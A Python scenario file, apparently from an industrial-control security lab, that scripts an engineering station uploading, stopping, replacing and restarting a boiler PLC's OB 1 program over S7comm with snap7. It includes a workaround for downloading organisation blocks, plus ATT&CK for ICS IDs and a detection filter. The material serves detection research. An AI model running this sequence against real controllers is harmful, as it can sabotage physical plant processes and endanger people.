"""The engineering station, in an attacker's hands, replaces the boiler controller's program.

ATT&CK for ICS: T0843 program download, T0889 modify program, T0845 program upload, T0858 change operating mode.
Attack frames: every frame of the S7 session that the engineering station opens. It lists the blocks, uploads OB 1
(start upload, upload, end upload), stops the controller, downloads another OB 1 (request download, download block,
download ended; the controller asks for each part), and starts it again. The station's frames with the functions 0x1a to
0x1c, 0x28 and 0x29 are the commands.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from snap7.type import Block

from lab.clients.sessions import s7comm
from lab.devices.s7comm import ORGANISATION, PROGRAM_BLOCK, program
from lab.plant import address
from lab.scenario import Scenario

if TYPE_CHECKING:
    from snap7.client import Client

    from lab.clock import Clock


def download_program(client: Client, block: bytearray) -> None:
    """Download an organisation block; the stack's own method names every block a data block."""
    protocol = client.protocol
    build = protocol.build_download_request
    protocol.build_download_request = lambda _, number, data: build(ORGANISATION, number, data)  # type: ignore[method-assign, assignment]
    protocol.parse_download_service_request = lambda pdu, *_: int.from_bytes(pdu[4:6], "big")  # type: ignore[method-assign]
    client.download(block, PROGRAM_BLOCK)


def attack(clock: Clock) -> None:
    """Copy the program, stop, replace it, start."""
    with s7comm("plc-boiler") as client:
        client.list_blocks()
        clock.sleep(2.0)
        client.full_upload(Block.OB, PROGRAM_BLOCK)
        clock.sleep(15.0)
        client.plc_stop()
        clock.sleep(2.0)
        download_program(client, program(2))
        clock.sleep(4.0)
        client.plc_hot_start()
        clock.sleep(3.0)


SCENARIO = Scenario(
    name="program-download",
    title="The engineering station downloads another program into the boiler controller",
    length=150.0,
    techniques=("T0843", "T0889", "T0845", "T0858"),
    attacker="ews",
    victims=("plc-boiler",),
    begin=70.0,
    behind=1860,
    commands=f"ip.src == {address('ews')} && s7comm.param.func in {{0x1a, 0x1b, 0x1c, 0x28, 0x29}}",
    attack=attack,
    seen="""\
- `10.21.10.41` (engineering station) opens an S7 session to `10.21.10.12` outside its hour of maintenance.
- Upload of OB 1 (functions 0x1d, 0x1e, 0x1f), PLC stop (0x29), download of OB 1 (0x1a; 0x1b and 0x1c are asked by the
  controller and answered by the station), warm restart (0x28).
- The station is one that may do this; what is wrong is the time, the stop and the changed block.""",
)
